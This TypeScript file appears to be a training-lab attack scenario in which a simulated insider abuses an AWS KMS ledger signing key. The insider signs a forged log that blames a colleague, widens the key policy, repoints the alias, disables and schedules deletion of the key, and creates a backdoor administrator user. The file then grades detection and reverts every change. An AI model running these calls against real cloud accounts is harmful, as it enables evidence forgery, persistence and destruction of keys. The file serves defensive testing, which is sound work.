// Lab advanced-ledger, attack 6: abuse or replace the signing key. ops-admin tries the ledger's KMS key
// directly — Sign a rewritten log, CreateGrant (Sign for themselves), PutKeyPolicy to let themselves sign,
// UpdateAlias (the ledger's alias onto a key of their own), DisableKey and ScheduleKeyDeletion — then
// creates a second administrator (CreateUser, AttachUserPolicy AdministratorAccess, CreateAccessKey) and
// tries all of it again as that user, from an address outside the office range (a key policy that denies
// ops-admin by name or 203.0.113.0/24 only does not stop an administrator). Then the rewritten log (their
// read and change of customer records naming a colleague) is signed with whatever worked: the ledger key,
// else a key of their own under the log's name. Blocked only when the key policy refused every call on
// every route. Detected when the audit reports the new checkpoint: signed by an unknown key, a bad
// signature, or — signed with the genuine key — a fork from what the witness cosigned.
import {
  KMSClient, CancelKeyDeletionCommand, CreateAliasCommand, CreateGrantCommand, DeleteAliasCommand, CreateKeyCommand, DisableKeyCommand, EnableKeyCommand, GetKeyPolicyCommand,
  ListAliasesCommand, ListGrantsCommand, PutKeyPolicyCommand, RevokeGrantCommand, ScheduleKeyDeletionCommand, SignCommand, DescribeKeyCommand,
  UpdateAliasCommand,
} from '@aws-sdk/client-kms';
import {
  IAMClient, AttachUserPolicyCommand, CreateAccessKeyCommand, CreateUserCommand, DeleteAccessKeyCommand, DeleteUserCommand,
  DetachUserPolicyCommand, ListAccessKeysCommand,
} from '@aws-sdk/client-iam';
import type { AttackStep, Scenario } from '../src/engine/types.ts';
import type { LabSession } from '../src/engine/session.ts';
import type { AwsCredentials } from '../src/cloud/labcloud.ts';
import { kmsSigner } from '../src/controls/ledger/signers.ts';
import { verifierFromVkey, type NoteSigner } from '../src/controls/ledger/note.ts';
import { pinnedTrust } from '../labs/advanced-ledger/trust.ts';
import { attempt } from './lib/attack.ts';
import { forgedEntries } from './advanced-ledger-fork.ts';
import {
  attackerClient, buildLog, judge, notRun, objectKey, prepareAttack, publish, revertCommon, save, scapegoat,
  type Prepared,
} from './advanced-ledger-shared.ts';

type Action = 'Sign' | 'CreateGrant' | 'PutKeyPolicy' | 'UpdateAlias' | 'DisableKey' | 'ScheduleKeyDeletion';

interface State extends Prepared {
  /** Every call on the ledger key, by route, and whether the lab cloud did it. */
  tried?: { route: string; action: Action; allowed: boolean }[];
  keyArn?: string;
  policy?: string;
  ownKey?: string;
  /** The alias that named the ledger key (put back on revert when the attacker moved it). */
  alias?: string;
  /** The second administrator ops-admin created (deleted on revert). */
  user?: string;
  signedWith?: 'ledger key' | 'own key';
}

/** A note signer over a KMS key whose public key (the pinned vkey) is already known: Sign is the only call. */
function signerWith(kms: KMSClient, keyId: string, vkey: string, grantTokens?: string[]): NoteSigner {
  const v = verifierFromVkey(vkey);
  return {
    name: v.name, keyId: v.keyId,
    sign: async (msg) => {
      const r = await kms.send(new SignCommand({ KeyId: keyId, Message: msg, MessageType: 'RAW', SigningAlgorithm: 'ECDSA_SHA_256', ...(grantTokens ? { GrantTokens: grantTokens } : {}) }));
      return Buffer.from(r.Signature!);
    },
  };
}

/** A second administrator made by ops-admin: its credentials, or none when IAM refused. */
async function secondAdmin(session: LabSession, st: State): Promise<{ steps: AttackStep[]; creds?: AwsCredentials; arn?: string }> {
  const iam = attackerClient(session, st.target, IAMClient);
  const name = `ops-backup-${session.random.fork('ledger-second-admin').int(1000, 9999)}`;
  const steps: AttackStep[] = [];
  let arn: string | undefined;
  steps.push(await attempt(session, `iam:CreateUser ${name} (a second administrator)`, async () => {
    arn = (await iam.send(new CreateUserCommand({ UserName: name }))).User?.Arn;
  }));
  if (!steps.at(-1)!.allowed) return { steps };
  st.user = name;
  steps.push(await attempt(session, `iam:AttachUserPolicy AdministratorAccess to ${name}`, () => iam.send(new AttachUserPolicyCommand({ UserName: name, PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }))));
  if (!steps.at(-1)!.allowed) return { steps };
  let creds: AwsCredentials | undefined;
  steps.push(await attempt(session, `iam:CreateAccessKey for ${name}`, async () => {
    const k = (await iam.send(new CreateAccessKeyCommand({ UserName: name }))).AccessKey!;
    creds = { accessKeyId: k.AccessKeyId!, secretAccessKey: k.SecretAccessKey! };
  }));
  return { steps, ...(creds ? { creds } : {}), ...(arn ? { arn } : { arn: `arn:aws:iam::${st.target.env.accountId}:user/${name}` }) };
}

export const ledgerReplaceKeyScenario: Scenario = {
  id: 'ledger-replace-key',
  title: 'An administrator abuses or replaces the ledger\'s signing key',
  description: 'ops-admin tries Sign, CreateGrant, PutKeyPolicy, UpdateAlias, DisableKey and ScheduleKeyDeletion on the ledger KMS key, as themselves and as a second administrator they create (from outside the office), then signs a rewritten log with the ledger key if allowed, or with a key of their own.',
  techniques: ['T1098', 'T1136.003', 'T1485', 'T1565.001'],
  detections: ['ledger audit: unknown-key', 'ledger audit: bad-signature', 'ledger audit: fork'],
  points: { blocked: 4, detected: 3 },
  tasks: { detected: 'signing', blocked: 'signing' },
  prepare: (session) => prepareAttack(session, 'replace-key'),
  async inject(session, state) {
    const st = state as State;
    if (!st.logged) return [];
    const t = st.target;
    const vkey = (await pinnedTrust(session)).trust.logVkeys[0];
    if (!t.keyId || !t.logKeyName || !vkey) {
      st.why = 'no signing key is pinned (signing task)';
      return [];
    }
    const kms = attackerClient(session, t, KMSClient);
    const rootKms = session.client(KMSClient);
    const keyId = t.keyId;
    const who = await scapegoat(session, t);
    const entries = forgedEntries(st, who);
    await save(session, st, t.ledger.bucket, objectKey(t.ledger.prefix, 'checkpoint'));
    const steps: AttackStep[] = [];
    st.tried = [];
    st.keyArn = await rootKms.send(new DescribeKeyCommand({ KeyId: keyId })).then((r) => r.KeyMetadata?.Arn).catch(() => undefined) ?? keyId;
    const original = await rootKms.send(new GetKeyPolicyCommand({ KeyId: keyId, PolicyName: 'default' })).then((r) => r.Policy).catch(() => undefined);
    if (original) st.policy = original;
    st.alias = await rootKms.send(new ListAliasesCommand({ KeyId: keyId })).then((r) => r.Aliases?.[0]?.AliasName).catch(() => undefined) ?? t.env.names.keyAlias;
    // A key of ops-admin's own: what UpdateAlias points the ledger's alias at, and the fallback signer.
    let own: string | undefined;
    steps.push(await attempt(session, 'kms:CreateKey ECC_NIST_P256 SIGN_VERIFY (ops-admin\'s own signing key)', async () => {
      own = (await kms.send(new CreateKeyCommand({ KeySpec: 'ECC_NIST_P256', KeyUsage: 'SIGN_VERIFY', Description: 'ledger' }))).KeyMetadata!.KeyId!;
    }));
    if (own) st.ownKey = own;
    let built: Awaited<ReturnType<typeof buildLog>> | undefined;
    const base = original ? JSON.parse(original) as { Version?: string; Statement: unknown[] } : { Version: '2012-10-17', Statement: [] };

    /** Every call on the ledger key as one principal from one address. */
    const route = async (label: string, client: KMSClient, principal: string) => {
      const one = async (action: Action, description: string, call: () => Promise<unknown>) => {
        const s = await attempt(session, `${label}: ${description}`, call);
        steps.push(s);
        st.tried!.push({ route: label, action, allowed: s.allowed });
        return s.allowed;
      };
      // Signs the rewritten log (once); later routes still call Sign, on a short message.
      const sign = async (tokens?: string[]) => {
        const signer = signerWith(client, keyId, vkey, tokens);
        if (built) await signer.sign(Buffer.from(`${t.origin}\n`));
        else built = await buildLog(t.origin, entries, [signer]);
      };
      await one('Sign', `kms:Sign with the ledger key (a rewritten log naming ${who})`, () => sign());
      let grant: { GrantToken?: string } | undefined;
      if (await one('CreateGrant', 'kms:CreateGrant on the ledger key: Sign for themselves', async () => {
        grant = await client.send(new CreateGrantCommand({ KeyId: keyId, GranteePrincipal: principal, Operations: ['Sign', 'GetPublicKey'] }));
      }) && grant?.GrantToken) {
        steps.push(await attempt(session, `${label}: kms:Sign with the ledger key through the grant`, () => sign([grant!.GrantToken!])));
      }
      const widened = { Version: base.Version ?? '2012-10-17', Statement: [...(Array.isArray(base.Statement) ? base.Statement : [base.Statement]), { Sid: 'ops', Effect: 'Allow', Principal: { AWS: principal }, Action: 'kms:*', Resource: '*' }] };
      if (await one('PutKeyPolicy', 'kms:PutKeyPolicy on the ledger key: they may do anything with it', () => client.send(new PutKeyPolicyCommand({ KeyId: keyId, PolicyName: 'default', Policy: JSON.stringify(widened) })))) {
        steps.push(await attempt(session, `${label}: kms:Sign with the ledger key under the new policy`, () => sign()));
      }
      if (own && st.alias) await one('UpdateAlias', `kms:UpdateAlias ${st.alias} onto ops-admin's own key`, () => client.send(new UpdateAliasCommand({ AliasName: st.alias!, TargetKeyId: own! })));
      await one('DisableKey', 'kms:DisableKey on the ledger key', () => client.send(new DisableKeyCommand({ KeyId: keyId })));
      await one('ScheduleKeyDeletion', 'kms:ScheduleKeyDeletion of the ledger key (7 days)', () => client.send(new ScheduleKeyDeletionCommand({ KeyId: keyId, PendingWindowInDays: 7 })));
    };
    // 1. ops-admin, from the office.
    await route('ops-admin', kms, t.env.opsAdmin.arn);
    // 2. A second administrator, from outside the office range.
    const second = await secondAdmin(session, st);
    steps.push(...second.steps);
    if (second.creds) {
      const outside = `198.51.100.${session.random.fork('ledger-outside-ip').int(20, 200)}`;
      await route(`${st.user} from ${outside}`, session.client(KMSClient, { credentials: second.creds, sourceIp: outside }), second.arn!);
    }
    if (built) st.signedWith = 'ledger key';
    else if (own) {
      // 3. ops-admin's own key, under the log's name.
      steps.push(await attempt(session, `kms:Sign with ops-admin's own key: the rewritten log under the name ${t.logKeyName}`, async () => {
        built = await buildLog(t.origin, entries, [await kmsSigner(kms, own!, t.logKeyName!)]);
      }));
      if (built) st.signedWith = 'own key';
    }
    if (built) steps.push(...await publish(session, st, built.files, `the rewritten log signed with the ${st.signedWith}`));
    return steps;
  },
  async observe(session, steps, state) {
    const st = state as State;
    if (!st.tried) return notRun(st, steps);
    // UpdateAlias is tried and reported but does not decide blocking: AWS checks it against the key policy of
    // the key the alias names now, the lab cloud only against the new target (the attacker's own key), so
    // the lab cloud allows it whatever the ledger key's policy says.
    const got = st.tried.filter((x) => x.allowed && x.action !== 'UpdateAlias');
    const moved = st.tried.filter((x) => x.allowed && x.action === 'UpdateAlias').map((x) => x.route);
    const blocked = !got.length;
    const routes = [...new Set(st.tried.map((x) => x.route))];
    const blockText = blocked
      ? `blocked: the key policy refused every call on the ledger key (Sign, CreateGrant, PutKeyPolicy, DisableKey, ScheduleKeyDeletion) on every route (${routes.join('; ')})${moved.length ? ` (${moved.join(', ')} moved ${st.alias} onto their own key: the grader pins the key by ARN; sign with the key ARN, not the alias)` : ''}`
      : `not blocked: the key policy let ${got.map((x) => `${x.route} ${x.action}`).join(', ')} on the ledger key — allow Sign to the ledger role only and refuse key administration to everyone, whoever and wherever they are (a Deny naming ops-admin or an address range does not stop another administrator; no statement delegating the key to the account's IAM policies)`;
    if (!st.signedWith) return { detected: false, blocked, steps, evidence: [], feedback: `the attacker could not sign a rewritten log; ${blockText}` };
    return judge(session, st, steps, {
      kinds: ['unknown-key', 'bad-signature', 'fork'],
      what: `the rewritten log signed with the ${st.signedWith}`,
      needs: st.signedWith === 'own key'
        ? 'the audit must verify checkpoints with the pinned log key only (audit task)'
        : 'signed with the genuine key, the rewrite is valid by itself: only a witness (witness task) or anchors (anchor task) show the log forked',
    }, { blocked, text: blockText });
  },
  async revert(session, state) {
    const st = state as State;
    await revertCommon(session, st);
    if (!st.tried) return;
    const keyId = st.target.keyId!;
    const did = (a: Action) => st.tried!.some((x) => x.action === a && x.allowed);
    // Whoever the key policy lets: the account root, else ops-admin (whom a permissive policy allows).
    const clients = [session.client(KMSClient), attackerClient(session, st.target, KMSClient)];
    const either = async (call: (kms: KMSClient) => Promise<unknown>) => {
      for (const kms of clients) if (await call(kms).then(() => true, () => false)) return;
    };
    if (did('ScheduleKeyDeletion')) await either((kms) => kms.send(new CancelKeyDeletionCommand({ KeyId: keyId })));
    if (did('ScheduleKeyDeletion') || did('DisableKey')) await either((kms) => kms.send(new EnableKeyCommand({ KeyId: keyId })));
    if (did('UpdateAlias') && st.alias) {
      // Back onto the ledger key; if the ledger key's policy refuses UpdateAlias, deleted and made again.
      await either(async (kms) => {
        try {
          await kms.send(new UpdateAliasCommand({ AliasName: st.alias!, TargetKeyId: st.keyArn ?? keyId }));
        } catch {
          await kms.send(new DeleteAliasCommand({ AliasName: st.alias! })).catch(() => undefined);
          await kms.send(new CreateAliasCommand({ AliasName: st.alias!, TargetKeyId: st.keyArn ?? keyId }));
        }
      });
    }
    if (did('CreateGrant')) {
      const grants = await session.client(KMSClient).send(new ListGrantsCommand({ KeyId: keyId })).then((r) => r.Grants ?? []).catch(() => []);
      for (const g of grants) {
        if (g.GranteePrincipal === st.target.env.opsAdmin.arn || (st.user && g.GranteePrincipal?.endsWith(`:user/${st.user}`))) {
          await either((kms) => kms.send(new RevokeGrantCommand({ KeyId: keyId, GrantId: g.GrantId! })));
        }
      }
    }
    if (did('PutKeyPolicy') && st.policy) await either((kms) => kms.send(new PutKeyPolicyCommand({ KeyId: keyId, PolicyName: 'default', Policy: st.policy!, BypassPolicyLockoutSafetyCheck: true })));
    if (st.ownKey) await attackerClient(session, st.target, KMSClient).send(new ScheduleKeyDeletionCommand({ KeyId: st.ownKey, PendingWindowInDays: 7 })).catch(() => undefined);
    if (st.user) {
      const iam = session.client(IAMClient);
      const keys = await iam.send(new ListAccessKeysCommand({ UserName: st.user })).then((r) => r.AccessKeyMetadata ?? []).catch(() => []);
      for (const k of keys) await iam.send(new DeleteAccessKeyCommand({ UserName: st.user, AccessKeyId: k.AccessKeyId! })).catch(() => undefined);
      await iam.send(new DetachUserPolicyCommand({ UserName: st.user, PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' })).catch(() => undefined);
      await iam.send(new DeleteUserCommand({ UserName: st.user })).catch(() => undefined);
    }
  },
};
